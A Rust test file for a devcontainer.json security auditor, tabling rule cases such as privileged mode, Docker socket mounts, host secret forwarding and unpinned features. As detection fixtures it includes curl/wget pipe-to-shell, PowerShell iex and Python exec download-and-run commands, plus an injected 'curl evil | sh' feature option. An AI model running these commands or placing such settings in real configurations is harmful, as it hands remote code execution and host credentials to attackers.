@@ -1,0 +1,807 @@
+//! Table tests over whole documents: every rule, its disguised forms, and the catalogue check
+//! that every rule is emitted by at least one case.
+
+#![allow(clippy::unwrap_used)]
+
+use std::collections::BTreeSet;
+
+use super::*;
+use crate::substitute::SubstitutionContext;
+use crate::{parse_devcontainer, parse_feature};
+
+/// (document, rule, severity, pointer) — the rule must be reported at that pointer with that
+/// severity.
+const CASES: &[(&str, RuleId, Severity, &str)] = &[
+    // initialize-command-on-host, in all three forms
+    (
+        r#"{"initializeCommand": "echo hi"}"#,
+        RuleId::InitializeCommandOnHost,
+        Severity::Critical,
+        "/initializeCommand",
+    ),
+    (
+        r#"{"initializeCommand": ["echo", "hi"]}"#,
+        RuleId::InitializeCommandOnHost,
+        Severity::Critical,
+        "/initializeCommand",
+    ),
+    (
+        r#"{"initializeCommand": {"a": "echo"}}"#,
+        RuleId::InitializeCommandOnHost,
+        Severity::Critical,
+        "/initializeCommand",
+    ),
+    // lifecycle-command
+    (
+        r#"{"postCreateCommand": "npm ci"}"#,
+        RuleId::LifecycleCommand,
+        Severity::Info,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postAttachCommand": {"x": ["a"]}}"#,
+        RuleId::LifecycleCommand,
+        Severity::Info,
+        "/postAttachCommand",
+    ),
+    // download-and-execute, every form
+    (
+        r#"{"postCreateCommand": "curl -fsSL https://x | sh"}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postCreateCommand": ["sh", "-c", "curl x | sh"]}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"postCreateCommand": {"a": ["sh","-c","curl https://x | sh"]}}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postCreateCommand/a",
+    ),
+    (
+        r#"{"onCreateCommand": {"b": "bash <(curl -s https://x)"}}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/onCreateCommand/b",
+    ),
+    (
+        r#"{"initializeCommand": "iex (iwr https://x/i.ps1)"}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/initializeCommand",
+    ),
+    (
+        r#"{"postStartCommand": ["/usr/bin/env", "bash", "-lc", "wget -qO- https://x | bash"]}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postStartCommand",
+    ),
+    (
+        r#"{"postStartCommand": ["python3", "-c", "import urllib.request as u;exec(u.urlopen('https://x').read())"]}"#,
+        RuleId::DownloadAndExecute,
+        Severity::Critical,
+        "/postStartCommand",
+    ),
+    // privileged
+    (
+        r#"{"privileged": true}"#,
+        RuleId::Privileged,
+        Severity::Critical,
+        "/privileged",
+    ),
+    (
+        r#"{"runArgs": ["--privileged"]}"#,
+        RuleId::Privileged,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--rm", "--privileged=true"]}"#,
+        RuleId::Privileged,
+        Severity::Critical,
+        "/runArgs/1",
+    ),
+    (
+        r#"{"privileged": false, "privileged": true}"#,
+        RuleId::Privileged,
+        Severity::Critical,
+        "/privileged",
+    ),
+    (
+        r#"{"privil\u0065ged": true}"#,
+        RuleId::Privileged,
+        Severity::Critical,
+        "/privileged",
+    ),
+    // capability
+    (
+        r#"{"capAdd": ["SYS_PTRACE"]}"#,
+        RuleId::Capability,
+        Severity::High,
+        "/capAdd/0",
+    ),
+    (
+        r#"{"capAdd": ["NET_RAW"]}"#,
+        RuleId::Capability,
+        Severity::Medium,
+        "/capAdd/0",
+    ),
+    (
+        r#"{"runArgs": ["--cap-add=sys_admin"]}"#,
+        RuleId::Capability,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--cap-add", "ALL"]}"#,
+        RuleId::Capability,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"capAdd": ["cap_dac_read_search"]}"#,
+        RuleId::Capability,
+        Severity::High,
+        "/capAdd/0",
+    ),
+    // host-namespace
+    (
+        r#"{"runArgs": ["--net=host"]}"#,
+        RuleId::HostNamespace,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--network", "host"]}"#,
+        RuleId::HostNamespace,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--pid=host"]}"#,
+        RuleId::HostNamespace,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--userns=host"]}"#,
+        RuleId::HostNamespace,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--ipc", "host"]}"#,
+        RuleId::HostNamespace,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"build": {"dockerfile": "D", "options": ["--network=host"]}}"#,
+        RuleId::HostNamespace,
+        Severity::Medium,
+        "/build/options/0",
+    ),
+    // unconfined-security
+    (
+        r#"{"securityOpt": ["seccomp=unconfined"]}"#,
+        RuleId::UnconfinedSecurity,
+        Severity::High,
+        "/securityOpt/0",
+    ),
+    (
+        r#"{"runArgs": ["--security-opt", "apparmor=unconfined"]}"#,
+        RuleId::UnconfinedSecurity,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"securityOpt": ["label=disable"]}"#,
+        RuleId::UnconfinedSecurity,
+        Severity::High,
+        "/securityOpt/0",
+    ),
+    // container-socket-mount, disguised
+    (
+        r#"{"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["src=/run/docker.sock,dst=/x,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["type=bind,source=/var/run,target=/r"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=//var/run/../run/docker.sock,target=/x,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["\"source=/var/run/docker.sock\",target=/x"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/x"}]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=/run/user/1000/docker.sock,target=/x,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=/run/podman/podman.sock,target=/x,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=/run/containerd/containerd.sock,target=/x,type=bind"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    (
+        r#"{"runArgs": ["--volume=/var/run/docker.sock:/var/run/docker.sock"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["-v", "/run:/host-run"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"mounts": ["type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/var/run,target=/r"]}"#,
+        RuleId::ContainerSocketMount,
+        Severity::Critical,
+        "/mounts/0",
+    ),
+    // host-path-mount
+    (
+        r#"{"runArgs": ["-v", "/:/host"]}"#,
+        RuleId::HostPathMount,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--mount", "type=bind,src=/,dst=/h"]}"#,
+        RuleId::HostPathMount,
+        Severity::Critical,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"mounts": ["source=${localEnv:HOME}${localEnv:USERPROFILE}/.ssh,target=/root/.ssh,type=bind"]}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=${localEnv:HOME}/.aws,target=/a,type=bind"]}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": [{"type": "bind", "source": "/etc", "target": "/e"}]}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/mounts/0",
+    ),
+    (
+        r#"{"mounts": ["source=~/.gitconfig,target=/g,type=bind"]}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/mounts/0",
+    ),
+    (
+        r#"{"workspaceMount": "source=${localWorkspaceFolder}/..,target=/w,type=bind", "workspaceFolder": "/w"}"#,
+        RuleId::HostPathMount,
+        Severity::High,
+        "/workspaceMount",
+    ),
+    (
+        r#"{"workspaceMount": "source=/,target=/w,type=bind", "workspaceFolder": "/w"}"#,
+        RuleId::HostPathMount,
+        Severity::Critical,
+        "/workspaceMount",
+    ),
+    // root-user
+    (
+        r#"{"remoteUser": "root"}"#,
+        RuleId::RootUser,
+        Severity::Medium,
+        "/remoteUser",
+    ),
+    (
+        r#"{"containerUser": "0"}"#,
+        RuleId::RootUser,
+        Severity::Medium,
+        "/containerUser",
+    ),
+    (
+        r#"{"runArgs": ["-u", "0:0"]}"#,
+        RuleId::RootUser,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
+    // feature-source / feature-unpinned / feature-option-injection / implied privileges
+    (
+        r#"{"features": {"ghcr.io/someone/features/x:1.2.3": {}}}"#,
+        RuleId::FeatureSource,
+        Severity::Medium,
+        "/features/ghcr.io~1someone~1features~1x:1.2.3",
+    ),
+    (
+        r#"{"features": {"https://x.example/devcontainer-feature-y.tgz": {}}}"#,
+        RuleId::FeatureSource,
+        Severity::Medium,
+        "/features/https:~1~1x.example~1devcontainer-feature-y.tgz",
+    ),
+    (
+        r#"{"features": {"./local": {}}}"#,
+        RuleId::FeatureSource,
+        Severity::Low,
+        "/features/.~1local",
+    ),
+    (
+        r#"{"features": {"ghcr.io/someone/features/x": {}}}"#,
+        RuleId::FeatureUnpinned,
+        Severity::Low,
+        "/features/ghcr.io~1someone~1features~1x",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/node:latest": {}}}"#,
+        RuleId::FeatureUnpinned,
+        Severity::Low,
+        "/features/ghcr.io~1devcontainers~1features~1node:latest",
+    ),
+    (
+        r#"{"features": {"ghcr.io/someone/features/x:1": {}}}"#,
+        RuleId::FeatureUnpinned,
+        Severity::Low,
+        "/features/ghcr.io~1someone~1features~1x:1",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"version": "1\"; curl evil | sh; \""}}}"#,
+        RuleId::FeatureOptionInjection,
+        Severity::Critical,
+        "/features/ghcr.io~1devcontainers~1features~1node:1/version",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/node:1": "$(id)"}}"#,
+        RuleId::FeatureOptionInjection,
+        Severity::Critical,
+        "/features/ghcr.io~1devcontainers~1features~1node:1",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"v": "`id`"}}}"#,
+        RuleId::FeatureOptionInjection,
+        Severity::Critical,
+        "/features/ghcr.io~1devcontainers~1features~1node:1/v",
+    ),
+    (
+        r#"{"features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}}"#,
+        RuleId::FeatureImpliedPrivileges,
+        Severity::High,
+        "/features/ghcr.io~1devcontainers~1features~1docker-in-docker:2",
+    ),
+    (
+        r#"{"features": {"docker-from-docker": "latest"}}"#,
+        RuleId::FeatureImpliedPrivileges,
+        Severity::Critical,
+        "/features/docker-from-docker",
+    ),
+    // host-secret-forwarding
+    (
+        r#"{"containerEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}"}}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/containerEnv/TOKEN",
+    ),
+    (
+        r#"{"build": {"dockerfile": "D", "args": {"NPM_TOKEN": "${localEnv:NPM_TOKEN}"}}}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/build/args/NPM_TOKEN",
+    ),
+    (
+        r#"{"remoteEnv": {"OPENAI_API_KEY": "${localEnv:OPENAI_API_KEY}"}}"#,
+        RuleId::HostSecretForwarding,
+        Severity::Medium,
+        "/remoteEnv/OPENAI_API_KEY",
+    ),
+    (
+        r#"{"runArgs": ["-e", "GH_TOKEN=${localEnv:GH_TOKEN}"]}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"mounts": ["source=${localEnv:SSH_AUTH_SOCK},target=/ssh-agent,type=bind"]}"#,
+        RuleId::HostSecretForwarding,
+        Severity::High,
+        "/mounts/0",
+    ),
+    // dangerous-environment
+    (
+        r#"{"containerEnv": {"LD_PRELOAD": "/tmp/x.so"}}"#,
+        RuleId::DangerousEnvironment,
+        Severity::Medium,
+        "/containerEnv/LD_PRELOAD",
+    ),
+    (
+        r#"{"remoteEnv": {"BASH_ENV": "/w/x"}}"#,
+        RuleId::DangerousEnvironment,
+        Severity::Medium,
+        "/remoteEnv/BASH_ENV",
+    ),
+    (
+        r#"{"remoteEnv": {"NODE_OPTIONS": "--require /w/x.js"}}"#,
+        RuleId::DangerousEnvironment,
+        Severity::Medium,
+        "/remoteEnv/NODE_OPTIONS",
+    ),
+    (
+        r#"{"runArgs": ["--env", "PROMPT_COMMAND=x"]}"#,
+        RuleId::DangerousEnvironment,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"secrets": {"LD_PRELOAD": {}}}"#,
+        RuleId::DangerousEnvironment,
+        Severity::Medium,
+        "/secrets/LD_PRELOAD",
+    ),
+    // repository-permissions
+    (
+        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": {"contents": "write"}}}}}}"#,
+        RuleId::RepositoryPermissions,
+        Severity::Medium,
+        "/customizations/codespaces/repositories/o~1r",
+    ),
+    (
+        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": "write-all"}}}}}"#,
+        RuleId::RepositoryPermissions,
+        Severity::High,
+        "/customizations/codespaces/repositories/o~1r",
+    ),
+    (
+        r#"{"customizations": {"codespaces": {"repositories": {"o/*": {"permissions": {"issues": "write"}}}}}}"#,
+        RuleId::RepositoryPermissions,
+        Severity::High,
+        "/customizations/codespaces/repositories/o~1*",
+    ),
+    (
+        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": {"workflows": "write"}}}}}}"#,
+        RuleId::RepositoryPermissions,
+        Severity::High,
+        "/customizations/codespaces/repositories/o~1r",
+    ),
+    // extension-source
+    (
+        r#"{"customizations": {"vscode": {"extensions": ["/tmp/x.vsix"]}}}"#,
+        RuleId::ExtensionSource,
+        Severity::Medium,
+        "/customizations/vscode/extensions/0",
+    ),
+    (
+        r#"{"customizations": {"vscode": {"extensions": ["ms\u2011python.python"]}}}"#,
+        RuleId::ExtensionSource,
+        Severity::Medium,
+        "/customizations/vscode/extensions/0",
+    ),
+    (
+        r#"{"customizations": {"vscode": {"extensions": ["ms-pyhton.python"]}}}"#,
+        RuleId::ExtensionSource,
+        Severity::Medium,
+        "/customizations/vscode/extensions/0",
+    ),
+    (
+        r#"{"extensions": ["-githb.copilot"]}"#,
+        RuleId::ExtensionSource,
+        Severity::Medium,
+        "/extensions/0",
+    ),
+    // app-port-all-interfaces
+    (
+        r#"{"appPort": "8080:80"}"#,
+        RuleId::AppPortAllInterfaces,
+        Severity::Medium,
+        "/appPort",
+    ),
+    (
+        r#"{"appPort": ["0.0.0.0:2375:2375", 3000]}"#,
+        RuleId::AppPortAllInterfaces,
+        Severity::Medium,
+        "/appPort/0",
+    ),
+    (
+        r#"{"runArgs": ["-p", "2222:22"]}"#,
+        RuleId::AppPortAllInterfaces,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
+    // duplicate-key
+    (
+        r#"{"privileged": false, "privileged": true}"#,
+        RuleId::DuplicateKey,
+        Severity::Medium,
+        "/privileged",
+    ),
+    (
+        r#"{"containerEnv": {"A": "1", "A": "2"}}"#,
+        RuleId::DuplicateKey,
+        Severity::Medium,
+        "/containerEnv/A",
+    ),
+    // unknown-property
+    (
+        r#"{"postCreateCommmand": "x"}"#,
+        RuleId::UnknownProperty,
+        Severity::Low,
+        "/postCreateCommmand",
+    ),
+    (
+        r#"{"Privileged": true}"#,
+        RuleId::UnknownProperty,
+        Severity::Low,
+        "/Privileged",
+    ),
+    (
+        r#"{"__proto__": {"privileged": true}}"#,
+        RuleId::UnknownProperty,
+        Severity::Low,
+        "/__proto__",
+    ),
+    (
+        r#"{"customizations": {"vscode": {"postCreateCommand": "x"}}}"#,
+        RuleId::UnknownProperty,
+        Severity::Low,
+        "/customizations/vscode/postCreateCommand",
+    ),
+    // embedded-credential
+    (
+        r#"{"containerEnv": {"GITHUB_TOKEN": "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"}}"#,
+        RuleId::EmbeddedCredential,
+        Severity::Critical,
+        "/containerEnv/GITHUB_TOKEN",
+    ),
+    (
+        r#"{"postCreateCommand": "git clone https://bob:hunter2pass@example.com/r.git"}"#,
+        RuleId::EmbeddedCredential,
+        Severity::Critical,
+        "/postCreateCommand",
+    ),
+    (
+        r#"{"build": {"dockerfile": "D", "args": {"AWS_KEY": "AKIAIOSFODNN7EXAMPLE"}}}"#,
+        RuleId::EmbeddedCredential,
+        Severity::Critical,
+        "/build/args/AWS_KEY",
+    ),
+    (
+        r#"{"remoteEnv": {"DB_PASSWORD": "Xk9vQ2mZ7pL4wR8tY1uB6nC3"}}"#,
+        RuleId::EmbeddedCredential,
+        Severity::Critical,
+        "/remoteEnv/DB_PASSWORD",
+    ),
+    // extra rules
+    (
+        r#"{"portsAttributes": {"80": {"elevateIfNeeded": true}}}"#,
+        RuleId::ElevateIfNeeded,
+        Severity::Low,
+        "/portsAttributes/80/elevateIfNeeded",
+    ),
+    (
+        r#"{"runArgs": ["--device=/dev/kvm"]}"#,
+        RuleId::HostDevice,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--gpus", "all"]}"#,
+        RuleId::HostDevice,
+        Severity::Low,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"runArgs": ["--env-file", "../.env"]}"#,
+        RuleId::HostEnvFile,
+        Severity::Medium,
+        "/runArgs/0",
+    ),
+    (
+        r#"{"dockerComposeFile": "compose.yml", "service": "app", "workspaceFolder": "/w"}"#,
+        RuleId::ComposeNotAudited,
+        Severity::Info,
+        "/dockerComposeFile",
+    ),
+];
+
+fn run(doc: &str) -> Vec<Finding> {
+    audit(&parse_devcontainer(doc), &AuditContext::default())
+}
+
+#[test]
+fn table() {
+    for (doc, rule, severity, pointer) in CASES {
+        let findings = run(doc);
+        assert!(
+            findings
+                .iter()
+                .any(|f| f.rule == *rule && f.severity == *severity && f.pointer == *pointer),
+            "expected {rule} {severity} at {pointer} for {doc}\ngot: {findings:#?}"
+        );
+    }
+}
+
+#[test]
+fn every_rule_is_emitted_by_some_case() {
+    let emitted: BTreeSet<RuleId> = CASES.iter().map(|(_, r, _, _)| *r).collect();
+    for rule in RULES {
+        assert!(
+            emitted.contains(&rule.id),
+            "rule {} is never emitted",
+            rule.id
+        );
+    }
+}
+
+#[test]
+fn harmless_documents_have_no_findings_above_info() {
+    for doc in [
+        r#"{"image": "mcr.microsoft.com/devcontainers/base:ubuntu"}"#,
+        r#"{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {"version": "lts"}}}"#,
+        r#"{"image": "x", "mounts": ["source=node_modules,target=/w/node_modules,type=volume"]}"#,
+        r#"{"image": "x", "mounts": ["source=${localWorkspaceFolder}/.cache,target=/c,type=bind"]}"#,
+        r#"{"image": "x", "remoteUser": "vscode", "appPort": 3000, "forwardPorts": [3000]}"#,
+        r#"{"image": "x", "appPort": "127.0.0.1:8080:80"}"#,
+        r#"{"image": "x", "containerEnv": {"NODE_ENV": "development", "HOME_DIR": "${localEnv:HOME}"}}"#,
+        r#"{"image": "x", "runArgs": ["--init", "--add-host=host.docker.internal:host-gateway"]}"#,
+        r#"{"image": "x", "customizations": {"vscode": {"extensions": ["ms-python.python@2024.1.0"], "settings": {}}}}"#,
+        r#"{"image": "x", "capAdd": [], "securityOpt": ["no-new-privileges"]}"#,
+        r#"{"image": "x", "postCreateCommand": ""}"#,
+    ] {
+        let above: Vec<_> = run(doc)
+            .into_iter()
+            .filter(|f| f.severity > Severity::Info)
+            .collect();
+        assert!(above.is_empty(), "{doc}: {above:#?}");
+    }
+}
+
+#[test]
+fn positions_and_order() {
+    let doc = "{\n  \"image\": \"x\",\n  \"privileged\": true,\n  \"runArgs\": [\"--pid=host\"]\n}";
+    let findings = run(doc);
+    let pos: Vec<_> = findings
+        .iter()
+        .map(|f| (f.rule, f.line, f.column))
+        .collect();
+    assert_eq!(
+        pos,
+        vec![(RuleId::Privileged, 3, 17), (RuleId::HostNamespace, 4, 15)]
+    );
+}
+
+#[test]
+fn secrets_never_in_messages() {
+    let secret = "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5";
+    let doc = format!(
+        r#"{{"containerEnv": {{"X": "{secret}"}}, "postCreateCommand": "curl -H 'token {secret}' https://x | sh", "runArgs": ["-e", "T={secret}"]}}"#
+    );
+    let findings = run(&doc);
+    assert!(findings
+        .iter()
+        .any(|f| f.rule == RuleId::EmbeddedCredential));
+    for f in findings {
+        assert!(!f.message.contains(&secret[4..]), "{f:?}");
+    }
+}
+
+#[test]
+fn substitution_reveals_more() {
+    let doc = r#"{"image": "x", "mounts": ["source=${localEnv:DATA},target=/d,type=bind"]}"#;
+    let parsed = parse_devcontainer(doc);
+    assert!(audit(&parsed, &AuditContext::default()).is_empty());
+    let ctx = AuditContext {
+        substitution: Some(SubstitutionContext {
+            local_env: [("DATA".to_string(), "/var/run".to_string())].into(),
+            ..SubstitutionContext::default()
+        }),
+        ..AuditContext::default()
+    };
+    let findings = audit(&parsed, &ctx);
+    assert_eq!(findings.len(), 1, "{findings:#?}");
+    assert_eq!(findings[0].rule, RuleId::ContainerSocketMount);
+    assert!(findings[0].message.contains("after variable substitution"));
+    // The host's own secrets substituted in are not "embedded" credentials.
+    let doc = r#"{"image": "x", "containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}"#;
+    let ctx = AuditContext {
+        substitution: Some(SubstitutionContext {
+            local_env: [(
+                "GITHUB_TOKEN".to_string(),
+                "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5".to_string(),
+            )]
+            .into(),
+            ..SubstitutionContext::default()
+        }),
+        ..AuditContext::default()
+    };
+    let findings = audit(&parse_devcontainer(doc), &ctx);
+    assert!(
+        findings
+            .iter()
+            .all(|f| f.rule != RuleId::EmbeddedCredential),
+        "{findings:#?}"
+    );
+}
+
+#[test]
+fn local_features_report_what_they_add() {
+    let feature = parse_feature(
+        r#"{"id": "x", "version": "1.0.0", "privileged": true,
+            "mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/d"}],
+            "capAdd": ["SYS_ADMIN"], "entrypoint": "/usr/local/share/x-init.sh",
+            "postStartCommand": "curl https://x | sh"}"#,
+    );
+    let ctx = AuditContext {
+        local_features: vec![LocalFeature {
+            key: "./x".into(),
+            metadata: feature.tree.clone().unwrap(),
+        }],
+        ..AuditContext::default()
+    };
+    let parsed = parse_devcontainer(r#"{"image": "i", "features": {"./x": {}}}"#);
+    let findings = audit(&parsed, &ctx);
+    for rule in [
+        RuleId::Privileged,
+        RuleId::ContainerSocketMount,
+        RuleId::Capability,
+        RuleId::LifecycleCommand,
+        RuleId::DownloadAndExecute,
+    ] {
+        let f = findings
+            .iter()
+            .find(|f| f.rule == rule)
+            .unwrap_or_else(|| panic!("{rule} missing: {findings:#?}"));
+        assert_eq!(f.pointer, "/features/.~1x");
+        assert!(f.message.contains("local feature `./x`"), "{}", f.message);
+    }
+    // The feature file on its own.
+    let own = audit_feature(&feature);
+    assert!(own
+        .iter()
+        .any(|f| f.rule == RuleId::Privileged && f.pointer == "/privileged"));
+    assert!(own
+        .iter()
+        .any(|f| f.rule == RuleId::LifecycleCommand && f.pointer == "/entrypoint"));
+}
+
+#[test]
+fn syntax_errors_give_no_findings() {
+    assert!(run("{'a': 1}").is_empty());
+    assert!(run("").is_empty());
+}
